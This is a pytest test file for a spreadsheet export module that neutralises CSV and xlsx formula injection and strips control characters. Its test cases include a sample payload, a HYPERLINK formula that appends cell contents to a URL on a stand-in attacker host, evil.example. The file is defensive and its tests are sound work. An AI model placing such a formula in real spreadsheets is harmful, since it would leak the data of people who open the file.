"""core.spreadsheets: text that a spreadsheet program would run as a formula is written as
text (OWASP CSV injection), and characters an .xlsx cannot hold are dropped. No database:
a table of cases, and the cells read back from saved workbooks."""

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from dangjian.core.spreadsheets import csv_row, csv_value, xlsx_cell, xlsx_row, xlsx_value

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2&E2,"详情")'

# (what was stored, the cell's text, whether it would read as a formula)
TEXT_CASES = [
    ("张三", "张三", False),
    ("=1+1", "=1+1", True),
    (HYPERLINK, HYPERLINK, True),
    ("+86 138", "+86 138", True),
    ("-2+3", "-2+3", True),
    ("@SUM(A1:A9)", "@SUM(A1:A9)", True),
    ("\t=1+1", "\t=1+1", True),
    ("\r=1+1", "\r=1+1", True),
    ("#N/A", "#N/A", True),
    ("五星 = 好", "五星 = 好", False),
    ("广东省\x0b深圳市", "广东省深圳市", False),
    ("\x1b五星", "五星", False),
    ("\x1b=2+3", "=2+3", True),  # cleaned first, then judged
    ("\x00\x08\x0c\x1f", "", False),
    ("多行\n文本", "多行\n文本", False),
]


@pytest.mark.parametrize(("stored", "text", "formula_like"), TEXT_CASES)
def test_xlsx_values_are_clean_text_and_formula_like_text_is_a_quoted_string_cell(
    stored, text, formula_like
):
    ws = Workbook(write_only=True).create_sheet()

    value = xlsx_value(ws, stored)

    if formula_like:
        assert value.value == text
        assert value.data_type == "s"
        assert value.quotePrefix is True
    else:
        assert value == text


@pytest.mark.parametrize("value", [None, 3, 18.42, date(2020, 7, 1), True])
def test_values_other_than_text_are_written_as_they_are(value):
    ws = Workbook().active
    assert xlsx_value(ws, value) is value
    assert csv_value(value) is value


@pytest.mark.parametrize(("stored", "text", "formula_like"), TEXT_CASES)
def test_csv_values_are_clean_text_and_formula_like_text_starts_with_an_apostrophe(
    stored, text, formula_like
):
    assert csv_value(stored) == ("'" + text if formula_like else text)


@pytest.mark.parametrize("write_only", [True, False])
def test_every_text_cell_reads_back_as_a_string_never_a_formula(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet() if write_only else wb.active
    ws.append([xlsx_cell(ws, "=标题")])
    for stored, _text, _formula_like in TEXT_CASES:
        ws.append(xlsx_row(ws, [stored, 1]))
    out = io.BytesIO()
    wb.save(out)

    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    rows = list(sheet.iter_rows())
    assert (rows[0][0].value, rows[0][0].data_type) == ("=标题", "s")
    for (stored, text, formula_like), (cell, number) in zip(TEXT_CASES, rows[1:], strict=True):
        assert cell.data_type == "s" or (text == "" and cell.value is None), stored
        # XML reads a carriage return back as a line feed.
        assert (cell.value or "") == text.replace("\r", "\n")
        assert cell.quotePrefix is formula_like
        assert (number.value, number.data_type) == (1, "n")


def test_a_csv_row_reads_back_with_every_formula_like_cell_quoted():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([stored for stored, _t, _f in TEXT_CASES]))

    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + text if formula_like else text for _s, text, formula_like in TEXT_CASES]
